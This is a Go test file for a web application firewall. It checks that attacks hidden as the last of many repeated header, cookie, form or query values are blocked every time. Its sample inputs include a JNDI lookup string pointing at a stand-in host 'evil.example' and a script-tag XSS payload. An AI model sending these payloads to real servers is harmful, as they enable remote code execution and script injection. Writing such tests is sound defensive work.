package waf

import (
	"fmt"
	"strings"
	"testing"

	"gatehouse/waf/index"
	"gatehouse/waf/variables"
)

// TestRepeatedNamesHideNothing sends an attack as one of many values of one
// name. Coraza 3.8.1 alone lets some of these pass, by chance: its cache of
// transformed values takes one for another.
func TestRepeatedNamesHideNothing(t *testing.T) {
	oneGoroutine(t)
	j, err := newJudge(testPolicy(1))
	if err != nil {
		t.Fatal(err)
	}
	defer j.release()
	headers := []variables.Pair{{Name: "Host", Value: "shop.example"}, {Name: "User-Agent", Value: "Mozilla/5.0"}, {Name: "Accept", Value: "*/*"},
		{Name: "A", Value: "1"}, {Name: "B", Value: "2"}, {Name: "C", Value: "3"}, {Name: "D", Value: "4"}, {Name: "E", Value: "5"}}
	form := func(data string) *variables.Request {
		h := append(headers[:len(headers):len(headers)], variables.Pair{Name: "Content-Type", Value: "application/x-www-form-urlencoded"},
			variables.Pair{Name: "Content-Length", Value: fmt.Sprint(len(data))})
		return request("POST", "/", "HTTP/1.1", h, data)
	}
	repeated := func(name, safe, evil string) []variables.Pair {
		h := headers[:len(headers):len(headers)]
		for range 20 {
			h = append(h, variables.Pair{Name: name, Value: safe})
		}
		return append(h, variables.Pair{Name: name, Value: evil})
	}
	xss := "<script>alert(1)</script>"
	for _, tc := range []struct {
		name string
		req  *variables.Request
	}{
		{"a header", request("GET", "/", "HTTP/1.1", repeated("X-Api-Version", "safe", "${jndi:ldap://evil.example/a}"), "")},
		{"a cookie", request("GET", "/", "HTTP/1.1", append(headers[:len(headers):len(headers)],
			variables.Pair{Name: "Cookie", Value: strings.Repeat("c=safe; ", 20) + "c=" + xss}), "")},
		{"cookies in several headers", request("GET", "/", "HTTP/1.1", repeated("Cookie", "c=safe", "c="+xss), "")},
		{"a form field", form(strings.Repeat("a=safe&", 20) + "a=%3Cscript%3Ealert(1)%3C/script%3E")},
		{"an argument of the query", request("GET", "/?"+strings.Repeat("a=safe&", 20)+"a=%3Cscript%3Ealert(1)%3C/script%3E", "HTTP/1.1", headers, "")},
		{"arguments without a name", request("GET", "/?"+strings.Repeat("=safe&", 20)+"=%3Cscript%3Ealert(1)%3C/script%3E", "HTTP/1.1", headers, "")},
	} {
		for _, useIndex := range []bool{false, true} {
			var e index.Evaluation
			blocked := 0
			scores := map[int]int{}
			for range 200 {
				jm, err := j.request("x", tc.req, nil, &e, useIndex)
				if err != nil {
					t.Fatal(tc.name, err)
				}
				if jm.Blocked {
					blocked++
				}
				scores[jm.Score]++
			}
			if blocked != 200 || len(scores) != 1 {
				t.Errorf("%s, index %v: %d of 200 blocked, scores %v", tc.name, useIndex, blocked, scores)
			}
		}
	}
}
